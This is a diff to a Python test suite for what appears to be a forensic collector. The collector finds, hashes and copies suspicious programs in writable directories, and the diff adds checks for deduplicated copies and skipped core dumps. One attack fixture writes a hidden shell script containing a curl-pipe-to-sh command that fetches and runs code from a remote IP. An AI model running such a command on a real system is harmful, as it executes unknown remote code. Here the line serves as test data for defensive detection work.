@@ -150,7 +150,8 @@ def _writable_root(root: Path, attack: bool) -> dict[str, str]:
     os.symlink("/etc/shadow", root / "tmp/shadow-link")  # never followed
     if attack:
         put("/tmp/.ICE-unix/.x/kworkerd", TRUE)  # a hidden ELF
-        put("/dev/shm/payload", TRUE)  # an ELF program, not hidden
+        # an ELF program, not hidden (bytes of its own: the same bytes as another are copied once)
+        put("/dev/shm/payload", Path(TRUE).read_bytes() + b"\0payload")
         put("/var/tmp/.cache/.update.sh", b"#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n")  # a hidden script
         for i in range(80):  # a big kit in a hidden folder: hidden, whatever its size
             put(f"/tmp/.X25-unix/.rsync/c/lib{i}.txt", b"x\n", 0o644)
@@ -183,7 +184,10 @@ def test_writable_places(tmp_path):
     assert script["file_type"] == "script" and script["shebang"] == "/bin/sh" and script["sha256"]
     assert seen["/tmp/libnetty_transport_native_epoll_x86_64123.so"]["elf_kind"] == "shared-object"
     assert seen["/tmp/report.csv"]["file_type"] == "other" and "sha256" not in seen["/tmp/report.csv"]
-    assert {c.path for c in copies} == {p for p, r in seen.items() if r["file_type"] in ("elf", "script")}
+    programs = {p: r for p, r in seen.items() if r["file_type"] in ("elf", "script")}
+    assert {c.path for c in copies} == {p for p, r in programs.items() if not r.get("copy_of")}
+    for r in programs.values():  # the same bytes copied once; the others name that copy
+        assert not r.get("copy_of") or (seen[r["copy_of"]]["copied"] and seen[r["copy_of"]]["sha256"] == r["sha256"])
     assert all(c.length == c.stat.st_size for c in copies)
 
 
@@ -191,7 +195,7 @@ def test_writable_places_bounded(tmp_path):
     root = tmp_path / "root"
     (root / "tmp").mkdir(parents=True)
     for i in range(300):
-        (root / "tmp" / f"f{i}").write_bytes(b"#!/bin/sh\n")
+        (root / "tmp" / f"f{i}").write_bytes(f"#!/b{i:05d}\n".encode())  # 10 bytes, each its own
     rows, problems, copies, _ = _collect(root, max_writable_entries=100, copy_total_bytes=50)
     assert len([r for r in rows if r["place"] == "writable"]) <= 100
     assert any("entry limit" in p.message for p in problems)
@@ -475,3 +479,27 @@ def test_repointed_library_link_found_when_other_package_lists_are_missing(tmp_p
     assert attack["TRI-INTEG-008"][0]["severity"] == "critical"
     clean, link = found["clean"]
     assert link["target_in_link_package"] is True and "TRI-INTEG-008" not in clean
+
+
+def test_same_bytes_copied_once_and_core_dumps_not_copied(tmp_path):
+    """A kit unpacked twice (or a tree of test copies) costs one copy: later rows name the first by copy_of.
+    A core dump is process memory, not a program: hashed and listed, never copied (ELF header with
+    e_type ET_CORE, written by hand from the ELF specification)."""
+    import struct
+
+    root = tmp_path / "root"
+    for folder in ("tmp/a", "tmp/b"):
+        (root / folder).mkdir(parents=True)
+        shutil.copy(TRUE, root / folder / "kit")
+    core = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9) + struct.pack("<HHI", 4, 62, 1) + bytes(48) + bytes(4096)
+    (root / "tmp/core.1234").write_bytes(core)
+    rows, problems, copies, _ = _collect(root)
+    seen = _by_path(rows)
+    first, second = seen["/tmp/a/kit"], seen["/tmp/b/kit"]
+    assert first["copied"] and not second["copied"] and second["copy_of"] == "/tmp/a/kit"
+    assert first["sha256"] == second["sha256"]
+    assert [c.path for c in copies] == ["/tmp/a/kit"]
+    dump = seen["/tmp/core.1234"]
+    assert dump["elf_kind"] == "core" and dump["sha256"] and not dump["copied"]
+    assert dump["copy_skipped"].startswith("core dump")
+    assert any("1 the same content as one copied" in p.message for p in problems)
